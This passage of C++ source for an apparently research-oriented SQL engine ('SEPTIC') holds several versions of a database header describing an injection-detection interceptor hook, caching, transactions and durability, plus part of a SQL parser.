}  // namespace septic::engine

// The DBMS facade: the full server-side statement pipeline.
//
//   raw SQL -> charset conversion -> lex/parse -> validate ->
//     [QueryInterceptor hook: SEPTIC]  -> execute
//
// The interceptor sees the statement exactly as it will execute — after the
// server has decoded confusable Unicode, stripped comments, and resolved
// the parse — which is what lets SEPTIC close the semantic-mismatch gap.
//
// Thread-safe. Only the catalog-touching stages serialize on the internal
// mutex (the storage engine is single-writer): validation, transaction
// state, and execution. Charset conversion, lex/parse, item-stack
// construction, and the interceptor hook all run outside the lock, so
// SEPTIC's detection work from many connections proceeds in parallel and
// only the final execute step queues. Validation runs twice: once before
// the hook (the interceptor must only ever see catalog-valid statements)
// and again under the execution lock (a concurrent DDL between the two
// sections surfaces as a normal validation error, never as undefined
// executor behavior).
//
// A query-digest cache (engine/digest_cache.h) short-circuits the
// conversion→…→hook pipeline for byte-identical repeats of benign
// statements: on a generation-current hit the engine replays the cached
// parse + interceptor verdict (notifying the interceptor via
// on_query_replayed) and goes straight to the serialized execute stage.
// Execution itself is never cached — only the pure per-query pipeline work.
#pragma once

#include <atomic>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "engine/digest_cache.h"
#include "engine/interceptor.h"
#include "engine/result.h"
#include "engine/session.h"
#include "storage/catalog.h"

namespace septic::engine {

class Database {
 public:
  Database() = default;

  /// Install (or clear, with nullptr) the pre-execution hook.
  void set_interceptor(std::shared_ptr<QueryInterceptor> interceptor);
  QueryInterceptor* interceptor() const { return interceptor_.get(); }

  /// Server-side character-set conversion of incoming statement text
  /// (confusable quotes collapsing to ASCII). ON models the
  /// latin1-connection MySQL deployments the paper's attacks target; OFF
  /// models a strict binary/utf8mb4 configuration where those payloads
  /// stay inert. The ablation bench flips this to show that the
  /// semantic-mismatch attacks live or die with the conversion.
  void set_charset_conversion(bool on) { charset_conversion_ = on; }
  bool charset_conversion() const { return charset_conversion_; }

  /// Run one statement through the whole pipeline. Throws DbError.
  ResultSet execute(Session& session, std::string_view raw_sql);

  /// Prepared-statement execution: parse a template containing `?`
  /// placeholders, bind `params` positionally, then run the bound statement
  /// through validation, the interceptor, and execution. Bound values are
  /// data, never SQL text: they skip charset conversion and can never alter
  /// the statement's structure — the interceptor sees them as ordinary
  /// data nodes. Throws DbError (kSyntax on parameter-count mismatch).
  ResultSet execute_prepared(Session& session, std::string_view template_sql,
                             const std::vector<sql::Value>& params);

  /// Convenience for setup code: execute with a throwaway admin session.
  ResultSet execute_admin(std::string_view raw_sql);

  storage::Catalog& catalog() { return catalog_; }
  const storage::Catalog& catalog() const { return catalog_; }

  /// Number of statements that reached execution (post-hook), for tests
  /// and the detection benches.
  uint64_t executed_count() const {
    return executed_count_.load(std::memory_order_relaxed);
  }
  /// Number of statements dropped by the interceptor.
  uint64_t blocked_count() const {
    return blocked_count_.load(std::memory_order_relaxed);
  }

  // --- query-digest cache (see engine/digest_cache.h) -----------------
  /// Byte budget for memoized pipeline results; 0 disables the cache.
  void set_digest_cache_budget(size_t bytes) {
    digest_cache_->set_byte_budget(bytes);
  }
  DigestCacheStats digest_cache_stats() const {
    return digest_cache_->stats();
  }
  /// Shared view of the cache (the interceptor gets the same one via
  /// attach_digest_cache when installed).
  std::shared_ptr<const QueryDigestCache> digest_cache() const {
    return digest_cache_;
  }

  /// Monotonic catalog-schema version: bumped after every executed DDL
  /// (CREATE/DROP/TRUNCATE/index DDL) and after transaction rollbacks
  /// (which restore a catalog snapshot). Cached entries carry the value
  /// current when they were validated.
  uint64_t ddl_version() const {
    return ddl_version_.load(std::memory_order_acquire);
  }

  /// True while a transaction is open (any session).
  bool in_transaction() const;

  /// Roll back the open transaction if `session_id` owns one — the server
  /// calls this when a connection dies mid-transaction.
  void rollback_if_owner(uint64_t session_id);

 private:
  /// Handle BEGIN/COMMIT/ROLLBACK (takes mu_ itself). Transactions are
  /// snapshot-based and serialized: one open transaction at a time,
  /// statements from other sessions are rejected until it finishes (coarse
  /// but honest serializable semantics for a single-writer engine).
  ResultSet handle_transaction(Session& session,
                               const sql::TransactionStmt& txn);

  /// Throw when another session's transaction is open. Caller holds mu_.
  void check_txn_conflict_locked(const Session& session) const;

  /// Digest-cache fast path: execute `converted` from a cached entry if a
  /// byte-exact, generation-current one exists. Returns nullopt on miss or
  /// stale tags (the caller runs the full pipeline). Performs the same
  /// transaction checks and interceptor accounting as the full path.
  std::optional<ResultSet> try_replay_cached(Session& session,
                                             const std::string& converted);

  /// Bump ddl_version_ after executing a statement of a schema-changing
  /// kind. Caller holds mu_ (DDL only happens under the execution lock).
  void maybe_bump_ddl_locked(sql::StatementKind kind);

  mutable std::mutex mu_;
  storage::Catalog catalog_;
  std::shared_ptr<QueryInterceptor> interceptor_;
  std::shared_ptr<QueryDigestCache> digest_cache_ =
      std::make_shared<QueryDigestCache>();
  std::atomic<uint64_t> executed_count_{0};
  std::atomic<uint64_t> blocked_count_{0};
  std::atomic<uint64_t> ddl_version_{0};
  /// Bumped by set_interceptor: entries cached under one interceptor
  /// (or under none) are never replayed under another.
  std::atomic<uint64_t> interceptor_epoch_{0};

  bool txn_active_ = false;
  uint64_t txn_owner_ = 0;
  std::string txn_snapshot_;  // catalog state at BEGIN
  bool charset_conversion_ = true;
};

}  // namespace septic::engine

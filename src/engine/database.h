// The DBMS facade: the full server-side statement pipeline.
//
//   raw SQL -> charset conversion -> lex/parse -> validate ->
//     [QueryInterceptor hook: SEPTIC]  -> execute
//
// The interceptor sees the statement exactly as it will execute — after the
// server has decoded confusable Unicode, stripped comments, and resolved
// the parse — which is what lets SEPTIC close the semantic-mismatch gap.
//
// Thread-safe. Only the catalog-touching stages serialize on the internal
// mutex (the storage engine is single-writer): validation, transaction
// state, and execution. Charset conversion, lex/parse, item-stack
// construction, and the interceptor hook all run outside the lock, so
// SEPTIC's detection work from many connections proceeds in parallel and
// only the final execute step queues. Validation runs twice: once before
// the hook (the interceptor must only ever see catalog-valid statements)
// and again under the execution lock (a concurrent DDL between the two
// sections surfaces as a normal validation error, never as undefined
// executor behavior).
#pragma once

#include <atomic>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "engine/interceptor.h"
#include "engine/result.h"
#include "engine/session.h"
#include "storage/catalog.h"

namespace septic::engine {

class Database {
 public:
  Database() = default;

  /// Install (or clear, with nullptr) the pre-execution hook.
  void set_interceptor(std::shared_ptr<QueryInterceptor> interceptor);
  QueryInterceptor* interceptor() const { return interceptor_.get(); }

  /// Server-side character-set conversion of incoming statement text
  /// (confusable quotes collapsing to ASCII). ON models the
  /// latin1-connection MySQL deployments the paper's attacks target; OFF
  /// models a strict binary/utf8mb4 configuration where those payloads
  /// stay inert. The ablation bench flips this to show that the
  /// semantic-mismatch attacks live or die with the conversion.
  void set_charset_conversion(bool on) { charset_conversion_ = on; }
  bool charset_conversion() const { return charset_conversion_; }

  /// Run one statement through the whole pipeline. Throws DbError.
  ResultSet execute(Session& session, std::string_view raw_sql);

  /// Prepared-statement execution: parse a template containing `?`
  /// placeholders, bind `params` positionally, then run the bound statement
  /// through validation, the interceptor, and execution. Bound values are
  /// data, never SQL text: they skip charset conversion and can never alter
  /// the statement's structure — the interceptor sees them as ordinary
  /// data nodes. Throws DbError (kSyntax on parameter-count mismatch).
  ResultSet execute_prepared(Session& session, std::string_view template_sql,
                             const std::vector<sql::Value>& params);

  /// Convenience for setup code: execute with a throwaway admin session.
  ResultSet execute_admin(std::string_view raw_sql);

  storage::Catalog& catalog() { return catalog_; }
  const storage::Catalog& catalog() const { return catalog_; }

  /// Number of statements that reached execution (post-hook), for tests
  /// and the detection benches.
  uint64_t executed_count() const {
    return executed_count_.load(std::memory_order_relaxed);
  }
  /// Number of statements dropped by the interceptor.
  uint64_t blocked_count() const {
    return blocked_count_.load(std::memory_order_relaxed);
  }

  /// True while a transaction is open (any session).
  bool in_transaction() const;

  /// Roll back the open transaction if `session_id` owns one — the server
  /// calls this when a connection dies mid-transaction.
  void rollback_if_owner(uint64_t session_id);

 private:
  /// Handle BEGIN/COMMIT/ROLLBACK (takes mu_ itself). Transactions are
  /// snapshot-based and serialized: one open transaction at a time,
  /// statements from other sessions are rejected until it finishes (coarse
  /// but honest serializable semantics for a single-writer engine).
  ResultSet handle_transaction(Session& session,
                               const sql::TransactionStmt& txn);

  /// Throw when another session's transaction is open. Caller holds mu_.
  void check_txn_conflict_locked(const Session& session) const;

  mutable std::mutex mu_;
  storage::Catalog catalog_;
  std::shared_ptr<QueryInterceptor> interceptor_;
  std::atomic<uint64_t> executed_count_{0};
  std::atomic<uint64_t> blocked_count_{0};

  bool txn_active_ = false;
  uint64_t txn_owner_ = 0;
  std::string txn_snapshot_;  // catalog state at BEGIN
  bool charset_conversion_ = true;
};

}  // namespace septic::engine

// The DBMS facade: the full server-side statement pipeline.
//
//   raw SQL -> charset conversion -> lex/parse -> validate ->
//     [QueryInterceptor hook: SEPTIC]  -> execute
//
// The interceptor sees the statement exactly as it will execute — after the
// server has decoded confusable Unicode, stripped comments, and resolved
// the parse — which is what lets SEPTIC close the semantic-mismatch gap.
//
// Thread-safe, with no global execute lock. Concurrency is layered:
//
//   - ddl_mu_ (shared_mutex): every statement holds it SHARED across
//     validate -> execute, so table references stay valid; only DDL
//     (CREATE/DROP/TRUNCATE/index DDL, and transaction rollback of DDL)
//     takes it EXCLUSIVE. Readers never queue behind each other.
//   - TxnManager::commit_mu: serializes writers (COMMITs and autocommit
//     writes) against each other. Readers never take it: they pin a
//     snapshot timestamp and read versioned rows, so a SELECT proceeds
//     while a writer is mid-statement and simply doesn't see it until the
//     writer publishes its commit timestamp.
//   - per-Table shared_mutex: the versioned row accessors self-lock, so a
//     statement holds at most one table lock at a time (joins scan tables
//     strictly sequentially).
//
// Transactions (engine/txn/txn.h) are snapshot-isolated: BEGIN pins a
// snapshot, statements buffer writes in a per-transaction write set
// (read-through for read-own-writes), COMMIT runs first-committer-wins
// conflict detection and applies the set atomically. Any number of
// sessions hold open transactions concurrently.
//
// Charset conversion, lex/parse, item-stack construction, and the
// interceptor hook all run outside every lock, so SEPTIC's detection work
// from many connections proceeds in parallel. Validation runs twice: once
// before the hook (the interceptor must only ever see catalog-valid
// statements) and again before execution when a DDL raced the unlocked
// window (surfacing as a normal validation error, never as executor UB).
//
// A query-digest cache (engine/digest_cache.h) short-circuits the
// conversion→…→hook pipeline for byte-identical repeats of benign
// statements: on a generation-current hit the engine replays the cached
// parse + interceptor verdict (notifying the interceptor via
// on_query_replayed) and goes straight to execution. Execution itself is
// never cached — only the pure per-query pipeline work.
#pragma once

#include <atomic>
#include <memory>
#include <mutex>
#include <optional>
#include <shared_mutex>
#include <string>
#include <string_view>
#include <vector>

#include "common/thread_annotations.h"
#include "engine/digest_cache.h"
#include "engine/interceptor.h"
#include "engine/prepared.h"
#include "engine/result.h"
#include "engine/session.h"
#include "engine/txn/txn.h"
#include "storage/catalog.h"
#include "storage/wal/durable.h"

namespace septic::engine {

class Database {
 public:
  /// Volatile engine: no data directory, no WAL — exactly the pre-PR 7
  /// behavior. Every durability hook below is a no-op.
  Database() = default;

  /// Durable engine: runs crash recovery against `opts.dir` before going
  /// live (checkpoint load + WAL replay; committed transactions redo,
  /// in-flight DDL undoes, torn tail truncates). All-or-nothing: throws
  /// DbError(kRecovery) on corruption or I/O failure and leaves no
  /// half-open state — a Database object only ever exists fully booted.
  explicit Database(storage::wal::DurableStorage::Options opts);

  /// Install (or clear, with nullptr) the pre-execution hook.
  void set_interceptor(std::shared_ptr<QueryInterceptor> interceptor);
  QueryInterceptor* interceptor() const {
    std::lock_guard lock(interceptor_mu_);
    return interceptor_.get();
  }

  /// Server-side character-set conversion of incoming statement text
  /// (confusable quotes collapsing to ASCII). ON models the
  /// latin1-connection MySQL deployments the paper's attacks target; OFF
  /// models a strict binary/utf8mb4 configuration where those payloads
  /// stay inert. The ablation bench flips this to show that the
  /// semantic-mismatch attacks live or die with the conversion.
  void set_charset_conversion(bool on) { charset_conversion_ = on; }
  bool charset_conversion() const { return charset_conversion_; }

  /// Run one statement through the whole pipeline. Throws DbError.
  ResultSet execute(Session& session, std::string_view raw_sql);

  /// Prepared-statement execution: parse a template containing `?`
  /// placeholders, bind `params` positionally, then run the bound statement
  /// through validation, the interceptor, and execution. Bound values are
  /// data, never SQL text: they skip charset conversion and can never alter
  /// the statement's structure — the interceptor sees them as ordinary
  /// data nodes. Throws DbError (kSyntax on parameter-count mismatch).
  ResultSet execute_prepared(Session& session, std::string_view template_sql,
                             const std::vector<sql::Value>& params);

  // --- server-side prepared statements (engine/prepared.h) -------------
  /// Compile a template once: convert -> parse -> validate -> interceptor
  /// verdict over the TEMPLATE, with placeholders as PARAM_ITEM wildcard
  /// data nodes. A blocked template throws kBlocked and no handle is
  /// created — the attack never gets a statement id. Handles belong to one
  /// session's serialized request stream (not thread-safe).
  PreparedStatementPtr prepare(Session& session, std::string_view template_sql);

  /// Execute a compiled handle with `params` bound positionally. Steady
  /// state re-runs NO structural verdict and never touches the digest
  /// cache: cheap atomic generation gates, then on_prepared_exec (replay
  /// accounting + data-plane scan of the bound values), bind, execute,
  /// revert. A stale tag (set_interceptor, DDL, interceptor config/model
  /// mutation) re-runs on_query once against the template and re-caches in
  /// the handle. Throws DbError (kSyntax on parameter-count mismatch,
  /// kBlocked when the interceptor rejects — the handle stays valid).
  ResultSet execute_prepared(Session& session, PreparedStatement& stmt,
                             const std::vector<sql::Value>& params);

  /// Convenience for setup code: execute with a throwaway admin session.
  ResultSet execute_admin(std::string_view raw_sql);

  storage::Catalog& catalog() { return catalog_; }
  const storage::Catalog& catalog() const { return catalog_; }

  /// Number of statements that reached execution (post-hook), for tests
  /// and the detection benches.
  uint64_t executed_count() const {
    return executed_count_.load(std::memory_order_relaxed);
  }
  /// Number of statements dropped by the interceptor.
  uint64_t blocked_count() const {
    return blocked_count_.load(std::memory_order_relaxed);
  }
  /// Templates compiled through prepare().
  uint64_t prepared_count() const {
    return prepared_count_.load(std::memory_order_relaxed);
  }
  /// Handle EXECs that re-ran the full on_query verdict because a
  /// generation tag went stale. Zero in steady state — the measurable form
  /// of "EXEC performs no per-call verdict".
  uint64_t prepared_reverdicts() const {
    return prepared_reverdicts_.load(std::memory_order_relaxed);
  }

  // --- query-digest cache (see engine/digest_cache.h) -----------------
  /// Byte budget for memoized pipeline results; 0 disables the cache.
  void set_digest_cache_budget(size_t bytes) {
    digest_cache_->set_byte_budget(bytes);
  }
  DigestCacheStats digest_cache_stats() const {
    return digest_cache_->stats();
  }
  /// Shared view of the cache (the interceptor gets the same one via
  /// attach_digest_cache when installed).
  std::shared_ptr<const QueryDigestCache> digest_cache() const {
    return digest_cache_;
  }

  /// Monotonic catalog-schema version: bumped after every executed DDL
  /// (CREATE/DROP/TRUNCATE/index DDL) and, exactly once, by the rollback
  /// of a transaction that executed DDL (the undo replay restores the
  /// pre-transaction catalog). A rollback of a DML-only transaction bumps
  /// nothing: buffered writes never touched shared state, so cached
  /// digest entries stay valid. Cached entries carry the value current
  /// when they were validated.
  uint64_t ddl_version() const {
    return ddl_version_.load(std::memory_order_acquire);
  }

  /// True while any session holds an open transaction.
  bool in_transaction() const { return txn_mgr_.active_count() > 0; }

  /// Roll back the open transaction if `session_id` owns one — the server
  /// calls this when a connection dies mid-transaction.
  void rollback_if_owner(uint64_t session_id);

  /// Transaction counters (begun / committed / rolled back / conflicts /
  /// aborted-on-block), for tests and monitoring.
  txn::TxnStats txn_stats() const { return txn_mgr_.stats(); }

  // --- durability (see storage/wal/durable.h) -------------------------
  /// True when this engine was booted with a data directory.
  bool durable() const { return durable_ != nullptr; }

  /// Runtime durability switch (bench sweeps): full = COMMIT acks after
  /// its group-commit fsync; relaxed = log without fsync; off = stop
  /// logging. No-op on a volatile engine. Leaving `off` checkpoints the
  /// current state first (mutations made while off were never logged;
  /// replaying newer records against a checkpoint missing them would
  /// diverge), so it throws kTxnState while an open transaction holds
  /// DDL undo and kInternal if that checkpoint fails — in both cases the
  /// mode stays off.
  void set_durability_mode(storage::wal::DurabilityMode m);
  storage::wal::DurabilityMode durability_mode() const {
    return durable_ ? durable_->mode() : storage::wal::DurabilityMode::kOff;
  }

  /// WAL / page-cache / checkpoint counters (zeroed on a volatile engine).
  storage::wal::DurabilityStats durability_stats() const {
    return durable_ ? durable_->stats() : storage::wal::DurabilityStats{};
  }

  /// What boot-time recovery did (records replayed, transactions
  /// discarded, torn bytes dropped). Empty on a volatile engine.
  const storage::wal::RecoveryReport& recovery_report() const {
    return recovery_report_;
  }

  /// Force a checkpoint now (tests, controlled shutdown). Throws
  /// kTxnState while an open transaction holds DDL undo — rotating the
  /// WAL would retire the records recovery needs to honor that undo.
  void checkpoint_now();

  /// Fsync outstanding WAL records (shutdown barrier in relaxed mode).
  void sync_durable() {
    if (durable_) durable_->sync();
  }

 private:
  /// Handle BEGIN / START TRANSACTION [READ ONLY] / COMMIT / ROLLBACK.
  /// Nested BEGIN and orphan COMMIT/ROLLBACK throw ErrorCode::kTxnState.
  ResultSet handle_transaction(Session& session,
                               const sql::TransactionStmt& txn);

  /// The session's open transaction, or nullptr. Drops the session's
  /// cached pointer when the transaction was finished elsewhere
  /// (disconnect cleanup, abort-on-block) — the atomic state check is what
  /// makes the cached pointer safe.
  std::shared_ptr<txn::Transaction> current_txn(Session& session) const;

  std::shared_ptr<QueryInterceptor> pinned_interceptor() const {
    std::lock_guard lock(interceptor_mu_);
    return interceptor_;
  }

  /// Post-hook execution: picks the execution context (transactional /
  /// autocommit read / autocommit write / DDL) and runs the statement
  /// under the right locks. `ddl_tag` is the ddl_version_ observed by the
  /// caller's validation; execution re-validates when it changed.
  ResultSet dispatch_execute(Session& session, const sql::Statement& stmt,
                             sql::StatementKind kind, uint64_t ddl_tag);

  /// DDL executed inside an open transaction: applies immediately to the
  /// shared catalog under the exclusive DDL lock, records the inverse
  /// operation in the transaction's undo log, bumps ddl_version_.
  ResultSet execute_ddl_in_txn(Session& session, txn::Transaction& t,
                               const sql::Statement& stmt,
                               sql::StatementKind kind);

  /// COMMIT protocol: conflict check, apply at a fresh commit timestamp,
  /// publish. Throws kConflict (transaction rolled back) on a
  /// first-committer-wins conflict.
  void commit_txn(Session& session, const std::shared_ptr<txn::Transaction>& t);

  /// ROLLBACK: discard the write set; when the transaction executed DDL,
  /// replay the undo log in reverse under the exclusive DDL lock and bump
  /// ddl_version_ exactly once.
  void rollback_txn(const std::shared_ptr<txn::Transaction>& t,
                    bool aborted_on_block = false);

  /// Opportunistic old-version reclamation: when the exclusive DDL lock is
  /// free (no statement in flight), drop versions no snapshot can reach.
  void maybe_vacuum();

  /// Opportunistic checkpoint once the WAL outgrows its threshold: needs
  /// the exclusive DDL lock (try_lock — contention means skip) and defers
  /// while any open transaction holds DDL undo.
  void maybe_checkpoint();

  /// Digest-cache fast path: execute `converted` from a cached entry if a
  /// byte-exact, generation-current one exists. Returns nullopt on miss or
  /// stale tags (the caller runs the full pipeline). Performs the same
  /// interceptor accounting and context selection as the full path.
  std::optional<ResultSet> try_replay_cached(Session& session,
                                             const std::string& converted);

  /// Guards catalog structure: statements hold it shared across
  /// validate -> execute; DDL holds it exclusive.
  mutable std::shared_mutex ddl_mu_;
  /// Guards only the interceptor pointer (pin = pointer copy).
  mutable std::mutex interceptor_mu_;
  storage::Catalog catalog_;
  std::shared_ptr<QueryInterceptor> interceptor_
      SEPTIC_GUARDED_BY(interceptor_mu_);
  std::shared_ptr<QueryDigestCache> digest_cache_ =
      std::make_shared<QueryDigestCache>();
  mutable txn::TxnManager txn_mgr_;
  /// Durability plane; nullptr on a volatile engine. log_* calls ride the
  /// same locks that order the mutations they describe; ack_sync runs
  /// outside them (see storage/wal/durable.h for the protocol).
  std::unique_ptr<storage::wal::DurableStorage> durable_;
  storage::wal::RecoveryReport recovery_report_;
  std::atomic<uint64_t> executed_count_{0};
  std::atomic<uint64_t> blocked_count_{0};
  std::atomic<uint64_t> prepared_count_{0};
  std::atomic<uint64_t> prepared_reverdicts_{0};
  std::atomic<uint64_t> ddl_version_{0};
  /// Bumped by set_interceptor: entries cached under one interceptor
  /// (or under none) are never replayed under another.
  std::atomic<uint64_t> interceptor_epoch_{0};

  bool charset_conversion_ = true;
};

}  // namespace septic::engine

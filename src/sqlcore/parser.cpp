#include "sqlcore/parser.h"

#include "common/string_util.h"
#include "sqlcore/lexer.h"

namespace septic::sql {

namespace {

class Parser {
 public:
  explicit Parser(std::vector<Token> tokens) : toks_(std::move(tokens)) {}

  Statement parse_statement() {
    const Token& t = peek();
    if (t.is_keyword("SELECT")) return parse_select_chain();
    if (t.is_keyword("INSERT")) return parse_insert();
    if (t.is_keyword("UPDATE")) return parse_update();
    if (t.is_keyword("DELETE")) return parse_delete();
    if (t.is_keyword("CREATE")) return parse_create();
    if (t.is_keyword("DROP")) return parse_drop();
    if (t.is_keyword("SHOW")) {
      advance();
      expect_kw("TABLES");
      return Statement(ShowTablesStmt{});
    }
    if (t.is_keyword("DESCRIBE") || t.is_keyword("DESC")) {
      advance();
      DescribeStmt d;
      d.table = expect_identifier("table name");
      return Statement(std::move(d));
    }
    if (t.is_keyword("EXPLAIN")) {
      advance();
      expect_kw("SELECT");
      pos_--;  // parse_select_core consumes SELECT itself
      ExplainStmt ex;
      ex.select = parse_select_core();
      return Statement(std::move(ex));
    }
    if (t.is_keyword("BEGIN") || t.is_keyword("START")) {
      bool is_start = t.is_keyword("START");
      advance();
      if (is_start) expect_kw("TRANSACTION");
      // MySQL's START TRANSACTION READ ONLY access-mode clause.
      if (accept_kw("READ")) {
        expect_kw("ONLY");
        return Statement(TransactionStmt{TransactionStmt::Op::kBeginReadOnly});
      }
      return Statement(TransactionStmt{TransactionStmt::Op::kBegin});
    }
    if (t.is_keyword("COMMIT")) {
      advance();
      return Statement(TransactionStmt{TransactionStmt::Op::kCommit});
    }
    if (t.is_keyword("ROLLBACK")) {
      advance();
      return Statement(TransactionStmt{TransactionStmt::Op::kRollback});
    }
    if (t.is_keyword("TRUNCATE")) {
      advance();
      accept_kw("TABLE");
      TruncateStmt tr;
      tr.table = expect_identifier("table name");
      return Statement(std::move(tr));
    }
    throw ParseError("expected a statement, got '" + std::string(t.text) + "'",
                     t.pos);
  }

  void expect_end() {
    if (peek().is_punct(';')) advance();
    if (peek().type != TokenType::kEnd) {
      throw ParseError(
          "unexpected trailing input '" + std::string(peek().text) + "'",
          peek().pos);
    }
  }

 private:
  const Token& peek(size_t ahead = 0) const {
    size_t i = pos_ + ahead;
    if (i >= toks_.size()) i = toks_.size() - 1;
    return toks_[i];
  }
  const Token& advance() { return toks_[pos_ < toks_.size() - 1 ? pos_++ : pos_]; }

  bool accept_kw(std::string_view kw) {
    if (peek().is_keyword(kw)) {
      advance();
      return true;
    }
    return false;
  }
  void expect_kw(std::string_view kw) {
    if (!accept_kw(kw)) {
      throw ParseError("expected " + std::string(kw) + ", got '" +
                           std::string(peek().text) + "'",
                       peek().pos);
    }
  }
  bool accept_punct(char c) {
    if (peek().is_punct(c)) {
      advance();
      return true;
    }
    return false;
  }
  void expect_punct(char c) {
    if (!accept_punct(c)) {
      throw ParseError(std::string("expected '") + c + "', got '" +
                           std::string(peek().text) + "'",
                       peek().pos);
    }
  }

  std::string expect_identifier(const char* what) {
    const Token& t = peek();
    if (t.type == TokenType::kIdentifier) {
      advance();
      return std::string(t.text);
    }
    throw ParseError(
        std::string("expected ") + what + ", got '" + std::string(t.text) + "'",
        t.pos);
  }

  // ------------------------------------------------------------- statements

  Statement parse_select_chain() {
    SelectPtr first = parse_select_core();
    while (peek().is_keyword("UNION")) {
      advance();
      SelectStmt::UnionArm arm;
      arm.all = accept_kw("ALL");
      expect_kw("SELECT");
      pos_--;  // parse_select_core expects to consume SELECT itself
      arm.select = parse_select_core();
      first->unions.push_back(std::move(arm));
    }
    return Statement(std::move(first));
  }

  SelectPtr parse_select_core() {
    expect_kw("SELECT");
    auto sel = std::make_unique<SelectStmt>();
    sel->distinct = accept_kw("DISTINCT");
    if (accept_kw("ALL") && sel->distinct) {
      throw ParseError("SELECT DISTINCT ALL is invalid", peek().pos);
    }

    // Select list.
    do {
      SelectItem item;
      if (peek().is_op("*")) {
        advance();
        item.star = true;
      } else {
        item.expr = parse_expr();
        if (accept_kw("AS")) {
          item.alias = expect_identifier("alias");
        } else if (peek().type == TokenType::kIdentifier) {
          item.alias = peek().text;
          advance();
        }
      }
      sel->items.push_back(std::move(item));
    } while (accept_punct(','));

    if (accept_kw("FROM")) {
      do {
        sel->from.push_back(parse_table_ref());
      } while (accept_punct(','));
      // JOIN chain.
      while (peek().is_keyword("JOIN") || peek().is_keyword("INNER") ||
             peek().is_keyword("LEFT")) {
        Join j;
        if (accept_kw("LEFT")) {
          j.kind = Join::Kind::kLeft;
          expect_kw("JOIN");
        } else {
          accept_kw("INNER");
          expect_kw("JOIN");
        }
        j.table = parse_table_ref();
        expect_kw("ON");
        j.on = parse_expr();
        sel->joins.push_back(std::move(j));
      }
    }

    if (accept_kw("WHERE")) sel->where = parse_expr();

    if (accept_kw("GROUP")) {
      expect_kw("BY");
      do {
        sel->group_by.push_back(parse_expr());
      } while (accept_punct(','));
    }
    if (accept_kw("HAVING")) sel->having = parse_expr();

    if (accept_kw("ORDER")) {
      expect_kw("BY");
      do {
        OrderKey k;
        k.expr = parse_expr();
        if (accept_kw("DESC")) {
          k.desc = true;
        } else {
          accept_kw("ASC");
        }
        sel->order_by.push_back(std::move(k));
      } while (accept_punct(','));
    }

    if (accept_kw("LIMIT")) {
      sel->limit = expect_integer("LIMIT count");
      if (accept_kw("OFFSET")) {
        sel->offset = expect_integer("OFFSET count");
      } else if (accept_punct(',')) {
        // MySQL "LIMIT offset, count"
        sel->offset = sel->limit;
        sel->limit = expect_integer("LIMIT count");
      }
    }
    return sel;
  }

  int64_t expect_integer(const char* what) {
    const Token& t = peek();
    if (t.type != TokenType::kInteger) {
      throw ParseError(std::string("expected integer for ") + what, t.pos);
    }
    advance();
    return t.int_value;
  }

  TableRef parse_table_ref() {
    TableRef ref;
    ref.name = expect_identifier("table name");
    if (accept_kw("AS")) {
      ref.alias = expect_identifier("table alias");
    } else if (peek().type == TokenType::kIdentifier) {
      ref.alias = peek().text;
      advance();
    }
    return ref;
  }

  Statement parse_insert() {
    expect_kw("INSERT");
    expect_kw("INTO");
    InsertStmt ins;
    ins.table = expect_identifier("table name");
    if (accept_punct('(')) {
      do {
        ins.columns.push_back(expect_identifier("column name"));
      } while (accept_punct(','));
      expect_punct(')');
    }
    expect_kw("VALUES");
    do {
      expect_punct('(');
      std::vector<ExprPtr> row;
      if (!peek().is_punct(')')) {
        do {
          row.push_back(parse_expr());
        } while (accept_punct(','));
      }
      expect_punct(')');
      ins.rows.push_back(std::move(row));
    } while (accept_punct(','));
    return Statement(std::move(ins));
  }

  Statement parse_update() {
    expect_kw("UPDATE");
    UpdateStmt up;
    up.table = expect_identifier("table name");
    expect_kw("SET");
    do {
      UpdateStmt::Assign a;
      a.column = expect_identifier("column name");
      if (!peek().is_op("=")) {
        throw ParseError("expected '=' in SET clause", peek().pos);
      }
      advance();
      a.value = parse_expr();
      up.assignments.push_back(std::move(a));
    } while (accept_punct(','));
    if (accept_kw("WHERE")) up.where = parse_expr();
    if (accept_kw("LIMIT")) up.limit = expect_integer("LIMIT count");
    return Statement(std::move(up));
  }

  Statement parse_delete() {
    expect_kw("DELETE");
    expect_kw("FROM");
    DeleteStmt del;
    del.table = expect_identifier("table name");
    if (accept_kw("WHERE")) del.where = parse_expr();
    if (accept_kw("LIMIT")) del.limit = expect_integer("LIMIT count");
    return Statement(std::move(del));
  }

  Statement parse_create() {
    expect_kw("CREATE");
    if (accept_kw("INDEX")) {
      CreateIndexStmt ci;
      ci.index_name = expect_identifier("index name");
      expect_kw("ON");
      ci.table = expect_identifier("table name");
      expect_punct('(');
      ci.column = expect_identifier("column name");
      expect_punct(')');
      return Statement(std::move(ci));
    }
    expect_kw("TABLE");
    CreateTableStmt ct;
    if (accept_kw("IF")) {
      expect_kw("NOT");
      // NOT is lexed as keyword NOT; EXISTS follows.
      expect_kw("EXISTS");
      ct.if_not_exists = true;
    }
    ct.table = expect_identifier("table name");
    expect_punct('(');
    do {
      ColumnDefAst col;
      col.name = expect_identifier("column name");
      const Token& ty = peek();
      if (ty.is_keyword("INT") || ty.is_keyword("INTEGER") ||
          ty.is_keyword("BIGINT")) {
        col.type = ColumnDefAst::Type::kInt;
        advance();
      } else if (ty.is_keyword("DOUBLE") || ty.is_keyword("FLOAT")) {
        col.type = ColumnDefAst::Type::kDouble;
        advance();
      } else if (ty.is_keyword("TEXT") || ty.is_keyword("VARCHAR") ||
                 ty.is_keyword("CHAR")) {
        col.type = ColumnDefAst::Type::kText;
        advance();
        if (accept_punct('(')) {  // VARCHAR(n): length accepted and ignored
          expect_integer("varchar length");
          expect_punct(')');
        }
      } else {
        throw ParseError(
            "expected column type, got '" + std::string(ty.text) + "'", ty.pos);
      }
      for (;;) {
        if (accept_kw("PRIMARY")) {
          expect_kw("KEY");
          col.primary_key = true;
        } else if (accept_kw("NOT")) {
          expect_kw("NULL");
          col.not_null = true;
        } else if (accept_kw("AUTO_INCREMENT")) {
          col.auto_increment = true;
        } else if (accept_kw("DEFAULT")) {
          const Token& dv = peek();
          if (dv.type == TokenType::kString) {
            col.default_value = Value(std::string(dv.str_value));
          } else if (dv.type == TokenType::kInteger) {
            col.default_value = Value(dv.int_value);
          } else if (dv.type == TokenType::kDecimal) {
            col.default_value = Value(dv.dbl_value);
          } else if (dv.is_keyword("NULL")) {
            col.default_value = Value::null();
          } else {
            throw ParseError("expected literal DEFAULT value", dv.pos);
          }
          advance();
        } else {
          break;
        }
      }
